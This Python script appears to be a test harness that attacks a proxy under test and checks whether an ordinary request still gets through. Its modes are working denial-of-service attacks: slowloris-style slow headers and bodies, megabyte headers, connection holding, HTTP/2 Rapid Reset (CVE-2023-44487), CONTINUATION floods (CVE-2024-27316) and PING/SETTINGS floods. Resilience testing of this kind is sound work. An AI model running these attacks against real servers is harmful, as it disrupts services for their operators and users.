"""An agent that means harm to the proxy: hostile.py MODE HOST PORT [COUNT].

Says that it is about to begin (file `ready`), attacks, asks for something ordinary beside the attack, prints what came of both
as one line of JSON, and keeps the attack up until the file `stop` is there.
"""

import json, os, resource, socket, ssl, sys, time

mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
count = int(sys.argv[4]) if len(sys.argv) > 4 else 0
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)


address = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]


def connect():
    stream = socket.socket(address[0], socket.SOCK_STREAM)
    stream.settimeout(20)
    stream.connect(address[4])
    return stream


def get(path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n".encode()


def read_all(stream):
    got = b""
    try:
        while more := stream.recv(65536):
            got += more
    except OSError as error:
        return got, type(error).__name__
    return got, "closed"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def block():
    authority = f"{host}:{port}".encode()
    return b"\x82\x87\x84\x01" + bytes([len(authority)]) + authority


def over_tls(protocol):
    context = ssl.create_default_context()
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(connect(), server_hostname=host)


def http2():
    stream = over_tls("h2")
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return stream


def pour(stream, piece, limit):
    """Sends pieces until the other side ends the connection; how many bytes it took, and how it ended."""
    sent = 0
    stream.settimeout(20)
    try:
        while sent < limit:
            stream.sendall(piece)
            sent += len(piece)
            # What it answers is read, so that it has no excuse to stop.
            stream.settimeout(0.001)
            try:
                while stream.recv(65536):
                    pass
                return sent, "closed"
            except (TimeoutError, ssl.SSLWantReadError):
                pass
            stream.settimeout(20)
    except OSError as error:
        return sent, type(error).__name__
    return sent, "never"


def attack():
    if mode == "slow_heads":
        held = [connect() for _ in range(count)]
        for stream in held:
            stream.sendall(b"GET / HTTP/1.1\r\n")
        for _ in range(8):
            for stream in held:
                try:
                    stream.sendall(b"x")
                except OSError:
                    pass
            time.sleep(0.5)
        ends = [read_all(stream) for stream in held]
        return {"timeouts": sum(got.startswith(b"HTTP/1.1 408") for got, _ in ends)}, held
    if mode == "slow_bodies":
        held = [connect() for _ in range(count)]
        for stream in held:
            stream.sendall(get().replace(b"GET", b"POST") + b"Content-Length: 100000\r\n\r\n")
        for _ in range(6):
            for stream in held:
                stream.sendall(b"x")
            time.sleep(0.5)
        return {}, held
    if mode == "big_heads":
        statuses = []
        for _ in range(count):
            stream = connect()
            try:
                stream.sendall(get() + b"X: " + b"x" * 1_000_000)
            except OSError:
                pass
            statuses.append(read_all(stream)[0][9:12].decode())
        return {"statuses": sorted(set(statuses))}, None
    if mode == "idle":
        held = []
        for _ in range(count):
            held.append(connect())
        return {"held": len(held)}, held
    pieces = {
        # A head, and the reset of it, as often as it goes (CVE-2023-44487).
        "rapid_reset": lambda at: b"".join(
            frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(at, at + 200, 2)
        ),
        # A head that never ends (CVE-2024-27316).
        "continuation": lambda at: (frame(1, 1, 1, block()) if at == 1 else b"") + frame(9, 0, 1, b"\0\x01x\x01y" * 3000),
        "ping": lambda at: frame(6, 0, 0, b"12345678") * 100,
        "settings": lambda at: frame(4, 0, 0, b"\0\x03\0\0\0\x64") * 100,
    }
    stream, at, sent = http2(), 1, 0
    # Time enough for the first answer, so that the attack is all that comes.
    while sent < count:
        more, end = pour(stream, pieces[mode](at), 1)
        sent, at = sent + more, at + 200
        if end != "never":
            return {"sent": sent, "end": end}, stream
    return {"sent": sent, "end": "never"}, stream


open("ready", "w").close()
while not os.path.exists("go"):
    time.sleep(0.005)
done, held = attack()
started = time.monotonic()
beside = over_tls("http/1.1") if "sent" in done else connect()
beside.sendall(get("/beside") + b"\r\n")
got, _ = read_all(beside)
done.update(status=got[9:12].decode(), seconds=time.monotonic() - started)
print(json.dumps(done), flush=True)
open("done", "w").close()
while not os.path.exists("stop"):
    time.sleep(0.005)
